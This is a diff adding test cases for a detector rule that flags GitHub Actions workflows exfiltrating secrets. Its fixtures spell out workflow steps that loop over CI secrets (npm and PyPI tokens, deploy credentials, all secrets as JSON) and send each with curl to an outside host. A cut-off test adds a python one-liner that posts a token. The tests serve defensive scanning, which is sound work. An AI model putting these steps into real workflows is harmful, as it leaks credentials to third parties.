@@ -745,6 +745,44 @@ describe('gha-secrets-exfiltration', () => {
     expect(only(quiet, 'gha-secrets-exfiltration')).toEqual([]);
   });
 
+  it('reports secrets sent one by one in a loop over their names (written out or in an array) or over toJSON(secrets), critical', () => {
+    const sent = `on: push\n${job(`      - name: sync
+        run: |
+          for n in NPM_TOKEN PYPI_TOKEN DEPLOY_CREDS; do
+            curl -s -d "$n=\${!n}" https://stats.build-insights.dev/c
+          done
+        env:
+          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
+          PYPI_TOKEN: \${{ secrets.PYPI_TOKEN }}
+          DEPLOY_CREDS: \${{ secrets.DEPLOY_CREDS }}
+      - run: |
+          names=(NPM_TOKEN PYPI_TOKEN)
+          for n in "\${names[@]}"; do curl -s "https://stats.build-insights.dev/c?$n=\${!n}"; done
+      - run: |
+          echo "$ALL" | jq -r 'to_entries[] | "\\(.key)=\\(.value)"' | while read -r kv; do
+            curl -s -X POST -d "$kv" https://stats.build-insights.dev/c
+          done
+        env:
+          ALL: \${{ toJSON(secrets) }}
+`)}`;
+    expect(only(sent, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['critical:8', 'critical:17', 'critical:19']);
+  });
+
+  it('is quiet for a loop over names that hold no secret, one that only masks or checks them, and a send to the machine itself', () => {
+    const quiet = `on: push\n${job(`      - run: |
+          for n in NODE_VERSION PYTHON_VERSION; do curl -s "https://stats.build-insights.dev/v?$n=\${!n}"; done
+          for n in NPM_TOKEN PYPI_TOKEN; do echo "::add-mask::\${!n}"; done
+          for n in NPM_TOKEN PYPI_TOKEN; do [ -n "\${!n}" ] || echo "$n is not set"; done
+          curl -sSf https://stats.build-insights.dev/ping
+          for n in NPM_TOKEN PYPI_TOKEN; do curl -s "http://localhost:4873/check?$n=\${!n}"; done
+          for target in build test lint; do curl -s "https://ci.build-insights.dev/run/$target"; done
+        env:
+          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
+          PYPI_TOKEN: \${{ secrets.PYPI_TOKEN }}
+`)}`;
+    expect(only(quiet, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
   it('reads the same send written as an inline script (python -c, node -e, shell: python) or a raw socket (nc, /dev/tcp), high', () => {
     const sent = `on: push\n${job(`      - run: python3 -c "import os,urllib.request;urllib.request.urlopen('https://api.build-insights.dev/x', data=os.environ['TOKEN'].encode())"
         env:
